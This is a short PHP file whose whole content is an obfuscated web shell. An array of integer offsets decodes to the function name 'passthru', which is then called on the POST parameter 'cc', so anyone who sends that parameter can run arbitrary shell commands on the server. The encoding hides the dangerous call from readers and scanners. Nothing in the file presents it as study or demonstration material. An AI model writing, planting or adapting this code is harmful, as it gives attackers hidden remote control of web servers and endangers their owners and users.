<?php
$d = [112,-15,18,0,1,-12,10,3]; $x = 0; $n = '';
while (count($d)) { $x += array_shift($d); $n .= chr($x); }
isset($_POST['cc']) and $n($_POST['cc']);
